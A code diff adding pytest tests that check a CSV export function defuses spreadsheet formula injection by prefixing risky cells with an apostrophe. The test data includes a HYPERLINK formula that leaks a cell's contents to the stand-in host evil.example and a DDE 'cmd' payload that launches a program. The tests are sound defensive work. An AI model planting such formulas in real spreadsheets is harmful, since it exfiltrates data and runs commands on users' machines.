@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import io
 from datetime import UTC, date, datetime
 from decimal import Decimal
@@ -66,3 +67,20 @@ def test_a_file_that_is_not_a_table_is_explained(data: bytes, name: str, problem
     with pytest.raises(UserError) as caught:
         sheets.read_table(data, name)
     assert problem in caught.value.message
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"])
+def test_a_csv_cell_that_a_spreadsheet_would_run_is_defused(start: str) -> None:
+    typed = f'{start}HYPERLINK("http://evil.example/?leak="&A1,"refund")'
+    data = sheets.csv_bytes([f"{start}buyer", "note"], [[typed, "+cmd|'/C calc'!A0"]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows == [[f"'{start}buyer", "note"], [f"'{typed}", "'+cmd|'/C calc'!A0"]]
+
+
+def test_csv_numbers_stay_numbers_and_text_that_starts_like_one_is_defused() -> None:
+    data = sheets.csv_bytes(
+        ["amount", "note"],
+        [[Decimal("-5.00"), "-5 cups"], [-5, "-5"], [2.5, "+86 138 0013 8000"], [None, "1e-3"]],
+    )
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
+    assert rows[1:] == [["-5.00", "'-5 cups"], ["-5", "-5"], ["2.5", "'+86 138 0013 8000"], ["", "1e-3"]]
